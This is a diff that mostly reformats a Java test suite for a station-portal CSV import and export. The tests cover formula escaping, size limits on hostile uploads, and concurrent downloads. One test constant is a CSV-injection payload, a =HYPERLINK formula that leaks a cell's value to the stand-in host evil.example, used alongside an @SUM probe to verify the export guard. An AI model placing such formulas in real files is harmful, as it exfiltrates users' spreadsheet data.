@@ -31,7 +31,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 
 @ExtendWith(VertxExtension.class)
-@DisplayName("Station CSV: formula cells guarded, hostile imports bounded, 30,000 stations exported to ten readers at once")
+@DisplayName(
+    "Station CSV: formula cells guarded, hostile imports bounded, 30,000 stations exported to ten readers at once")
 class StationCsvBoundsTest {
   static final int SYNTHETIC = 30_000;
   static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
@@ -40,9 +41,20 @@ class StationCsvBoundsTest {
 
   @BeforeAll
   static void start(Vertx vertx) throws Exception {
-    // the machine is shared and loaded: generous waits for a connection and for the 30,000-row query
-    portal = TestPortal.create(vertx, Map.of("PORTAL_DB_CONNECT_TIMEOUT_MS", "20000", "PORTAL_DB_STATEMENT_TIMEOUT_MS", "60000",
-        "PORTAL_HTTP_IDLE_TIMEOUT_S", "120")).start().await(3, TimeUnit.MINUTES);
+    // the machine is shared and loaded: generous waits for a connection and for the 30,000-row
+    // query
+    portal =
+        TestPortal.create(
+                vertx,
+                Map.of(
+                    "PORTAL_DB_CONNECT_TIMEOUT_MS",
+                    "20000",
+                    "PORTAL_DB_STATEMENT_TIMEOUT_MS",
+                    "60000",
+                    "PORTAL_HTTP_IDLE_TIMEOUT_S",
+                    "120"))
+            .start()
+            .await(3, TimeUnit.MINUTES);
     DeskClient.addUser(portal.database(), "alice", "editor");
     desk = DeskClient.login(portal, "alice");
     var pool = PgBuilder.pool().connectingTo(portal.database().url()).using(vertx).build();
@@ -59,16 +71,24 @@ class StationCsvBoundsTest {
   }
 
   static HttpResponse<Buffer> upload(String content) throws Exception {
-    MultipartForm form = MultipartForm.create().attribute("_csrf", desk.csrf())
-        .binaryFileUpload("file", "stations.csv", Buffer.buffer(content), "text/csv");
-    return portal.client().post("/editor/stations/import").putHeader("Cookie", Sessions.COOKIE + "=" + desk.cookie)
-        .sendMultipartForm(form).await(60, TimeUnit.SECONDS);
+    MultipartForm form =
+        MultipartForm.create()
+            .attribute("_csrf", desk.csrf())
+            .binaryFileUpload("file", "stations.csv", Buffer.buffer(content), "text/csv");
+    return portal
+        .client()
+        .post("/editor/stations/import")
+        .putHeader("Cookie", Sessions.COOKIE + "=" + desk.cookie)
+        .sendMultipartForm(form)
+        .await(60, TimeUnit.SECONDS);
   }
 
   static void importAndConfirm(String csv) throws Exception {
     var report = upload(csv);
     assertEquals(200, report.statusCode(), report.bodyAsString());
-    Matcher m = Pattern.compile("action=\"(/editor/stations/import/[^\"]+/confirm)\"").matcher(report.bodyAsString());
+    Matcher m =
+        Pattern.compile("action=\"(/editor/stations/import/[^\"]+/confirm)\"")
+            .matcher(report.bodyAsString());
     assertTrue(m.find(), report.bodyAsString());
     assertEquals(303, desk.post(m.group(1), DeskClient.form()).statusCode());
   }
@@ -76,14 +96,15 @@ class StationCsvBoundsTest {
   static String row(String slug, String name, String organization) {
     List<String> f = new ArrayList<>();
     for (String c : StationCsvFormat.COLUMNS) {
-      f.add(switch (c) {
-        case "id" -> slug;
-        case "name" -> name;
-        case "organization" -> organization;
-        case "kind" -> "psych";
-        case "status" -> "active";
-        default -> "";
-      });
+      f.add(
+          switch (c) {
+            case "id" -> slug;
+            case "name" -> name;
+            case "organization" -> organization;
+            case "kind" -> "psych";
+            case "status" -> "active";
+            default -> "";
+          });
     }
     return Csv.line(f);
   }
@@ -94,26 +115,43 @@ class StationCsvBoundsTest {
   }
 
   @Test
-  @DisplayName("a row with =HYPERLINK(...) imports as typed, exports guarded with a quote, and re-imports unchanged")
+  @DisplayName(
+      "a row with =HYPERLINK(...) imports as typed, exports guarded with a quote, and re-imports unchanged")
   void formulaGuardedAndRoundTrips() throws Exception {
     // written as a spreadsheet would, without the guard: the file an attacker hands an editor
     String header = String.join(",", StationCsvFormat.COLUMNS) + "\r\n";
-    String hostile = row("formula-station", "x", "y").replaceFirst(",x,", ",\"" + FORMULA.replace("\"", "\"\"") + "\",")
-        .replaceFirst(",y,", ",@SUM(1+1),");
+    String hostile =
+        row("formula-station", "x", "y")
+            .replaceFirst(",x,", ",\"" + FORMULA.replace("\"", "\"\"") + "\",")
+            .replaceFirst(",y,", ",@SUM(1+1),");
     importAndConfirm(header + hostile);
-    assertEquals(FORMULA, portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
-    String body = portal.client().get("/api/stations.csv?q=" + java.net.URLEncoder.encode("HYPERLINK", "UTF-8"))
-        .send().await(60, TimeUnit.SECONDS).bodyAsString();
+    assertEquals(
+        FORMULA,
+        portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
+    String body =
+        portal
+            .client()
+            .get("/api/stations.csv?q=" + java.net.URLEncoder.encode("HYPERLINK", "UTF-8"))
+            .send()
+            .await(60, TimeUnit.SECONDS)
+            .bodyAsString();
     String line = exportedLine(body, "formula-station");
     assertTrue(line.contains(",\"'=HYPERLINK("), line);
     assertTrue(line.contains(",'@SUM(1+1),"), line);
     importAndConfirm(body);
-    assertEquals(FORMULA, portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
-    assertEquals("@SUM(1+1)", portal.database().queryOne("SELECT organization FROM stations WHERE slug = 'formula-station'"));
+    assertEquals(
+        FORMULA,
+        portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
+    assertEquals(
+        "@SUM(1+1)",
+        portal
+            .database()
+            .queryOne("SELECT organization FROM stations WHERE slug = 'formula-station'"));
   }
 
   @Test
-  @DisplayName("a 1 MB single line, 5,001 rows and a 3 MB file are refused with a clear Chinese message naming the line")
+  @DisplayName(
+      "a 1 MB single line, 5,001 rows and a 3 MB file are refused with a clear Chinese message naming the line")
   void hostileImports() throws Exception {
     String header = String.join(",", StationCsvFormat.COLUMNS) + "\r\n";
     var oneLine = upload(header + "x".repeat(1024 * 1024));
@@ -130,26 +168,34 @@ class StationCsvBoundsTest {
   }
 
   @Test
-  @DisplayName("ten concurrent downloads of the 30,000-station CSV all answer 200, complete and identical, while /health stays quick")
+  @DisplayName(
+      "ten concurrent downloads of the 30,000-station CSV all answer 200, complete and identical, while /health stays quick")
   void tenConcurrentDownloads(Vertx vertx) throws Exception {
     Runtime rt = Runtime.getRuntime();
     System.gc();
     long heapBefore = rt.totalMemory() - rt.freeMemory();
     long[] peak = {heapBefore};
-    Thread sampler = Thread.ofPlatform().daemon().start(() -> {
-      while (!Thread.currentThread().isInterrupted()) {
-        peak[0] = Math.max(peak[0], rt.totalMemory() - rt.freeMemory());
-        try {
-          Thread.sleep(10);
-        } catch (InterruptedException e) {
-          return;
-        }
-      }
-    });
+    Thread sampler =
+        Thread.ofPlatform()
+            .daemon()
+            .start(
+                () -> {
+                  while (!Thread.currentThread().isInterrupted()) {
+                    peak[0] = Math.max(peak[0], rt.totalMemory() - rt.freeMemory());
+                    try {
+                      Thread.sleep(10);
+                    } catch (InterruptedException e) {
+                      return;
+                    }
+                  }
+                });
     long start = System.nanoTime();
     // ten connections of their own, so all ten downloads are really under way at once
-    WebClient ten = WebClient.create(vertx, new WebClientOptions().setDefaultHost("localhost")
-        .setDefaultPort(portal.port()), new PoolOptions().setHttp1MaxSize(10));
+    WebClient ten =
+        WebClient.create(
+            vertx,
+            new WebClientOptions().setDefaultHost("localhost").setDefaultPort(portal.port()),
+            new PoolOptions().setHttp1MaxSize(10));
     List<Future<HttpResponse<Buffer>>> downloads = new ArrayList<>();
     for (int i = 0; i < 10; i++) downloads.add(ten.get("/api/stations.csv").send());
     long healthStart = System.nanoTime();
@@ -172,9 +218,10 @@ class StationCsvBoundsTest {
     }
     long records = downloads.get(0).result().bodyAsString().split("\r\n").length;
     assertTrue(records > SYNTHETIC, records + " lines");
-    System.out.printf("CSV export: %d stations, %.1f MB each, 10 concurrent in %d ms; /health during it %d ms; "
-        + "test-JVM heap %d MB before, peak %d MB%n", records - 1, length / 1e6, tookMs, healthMs,
-        heapBefore >> 20, peak[0] >> 20);
+    System.out.printf(
+        "CSV export: %d stations, %.1f MB each, 10 concurrent in %d ms; /health during it %d ms; "
+            + "test-JVM heap %d MB before, peak %d MB%n",
+        records - 1, length / 1e6, tookMs, healthMs, heapBefore >> 20, peak[0] >> 20);
     assertEquals(200, health);
     // before, each download built its CSV on the event loop in turn (1.4 s each at 30,000 stations)
     assertTrue(healthMs < 8_000, "/health waited " + healthMs + " ms behind the downloads");
